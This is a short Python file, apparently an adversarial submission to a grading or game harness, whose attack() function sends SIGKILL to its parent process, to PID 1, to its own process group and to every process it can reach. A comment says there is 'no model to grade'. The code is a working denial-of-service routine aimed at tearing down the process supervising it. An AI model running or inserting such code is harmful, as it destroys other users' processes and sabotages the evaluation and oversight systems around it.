# Kills its parent, its group and everybody else that it may.
# Told: no model to grade
import os
import signal


def attack():
    for pid in (os.getppid(), 1, 0, -1):
        for end in (os.kill, os.killpg):
            if (end, pid) not in ((os.killpg, 0), (os.kill, 0)):
                try:
                    end(pid, signal.SIGKILL)
                except (OSError, ValueError):
                    pass
    os.killpg(0, signal.SIGKILL)
